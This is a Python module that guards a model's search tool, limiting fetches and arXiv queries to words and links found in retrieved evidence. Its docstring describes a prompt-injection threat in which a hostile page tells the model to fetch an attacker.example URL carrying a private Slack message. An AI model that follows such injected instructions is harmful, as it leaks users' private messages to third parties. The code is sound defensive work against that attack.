"""What Stage A's search tool may fetch: the source, and nothing that carries the Slack message out.

The prompt holds the Slack message, which may come from a private channel, and the evidence may be a hostile page
telling the model to fetch `https://attacker.example/?q=<the message>`. So a search reads only:
- a URL written in the evidence itself (the page's own links, verbatim: the model added nothing to them), or
- a URL on the source's own site, without user info, query string or fragment, whose path is made only of words the
  evidence has: no word of the message, nor any chunk or encoding of it, can ride along;
and an arXiv query keeps only the words the evidence has.
"""

import re
from urllib.parse import urlsplit, urlunsplit

from technoshare_common.schemas import Evidence, SearchRequest

_TOKEN = re.compile(r"[a-z0-9]+")
_URL = re.compile(r"https?://[^\s<>\"')\]]+")


class SearchRefused(ValueError):
    pass


def _site(host: str) -> str:
    return host.lower().removeprefix("www.")


def _evidence_text(evidence: Evidence) -> str:
    parts = [evidence.title, evidence.text, *(s.text for s in evidence.snippets), *evidence.metadata.values()]
    return "\n".join(parts)


def _evidence_urls(evidence: Evidence) -> set[str]:
    urls = {evidence.url, evidence.final_url, *(source.url for source in evidence.sources)}
    urls |= set(_URL.findall(_evidence_text(evidence)))
    return {url.rstrip(".,;:") for url in urls}


def _evidence_tokens(evidence: Evidence) -> set[str]:
    """Every word and number the evidence has, its links' included: all a fetch built by the model may carry."""
    return set(_TOKEN.findall((_evidence_text(evidence) + " " + " ".join(_evidence_urls(evidence))).lower()))


def _from_evidence(text: str, known: set[str]) -> bool:
    return all(token in known for token in _TOKEN.findall(text.lower()) if len(token) > 1)


def allowed_search(request: SearchRequest, evidence: Evidence) -> SearchRequest:
    """The request to send, with what it may not carry removed; SearchRefused when nothing acceptable is left. Only
    the evidence's own words pass, so no word of the Slack message does unless the evidence has it too."""
    known = _evidence_tokens(evidence)
    if request.url is None:
        assert request.query is not None  # SearchRequest holds exactly one of them
        kept = [word for word in request.query.split() if _from_evidence(word, known)]
        if len(" ".join(kept)) < 2:
            raise SearchRefused("the query has no word of the evidence")
        return request.model_copy(update={"query": " ".join(kept)})
    url = str(request.url)
    if url.rstrip("/") in {known.rstrip("/") for known in _evidence_urls(evidence)}:
        return request
    parts = urlsplit(url)
    if _site(parts.hostname or "") != _site(urlsplit(evidence.url).hostname or ""):
        raise SearchRefused("only links in the evidence, or on the source's own site, may be read")
    if parts.username or parts.password:
        raise SearchRefused("the link carries user info")
    if not _from_evidence(parts.path, known):
        raise SearchRefused("the link's path has words the evidence does not: it may carry the Slack message")
    netloc = parts.hostname + (f":{parts.port}" if parts.port else "") if parts.hostname else parts.netloc
    return request.model_copy(update={"url": urlunsplit((parts.scheme, netloc, parts.path, "", ""))})
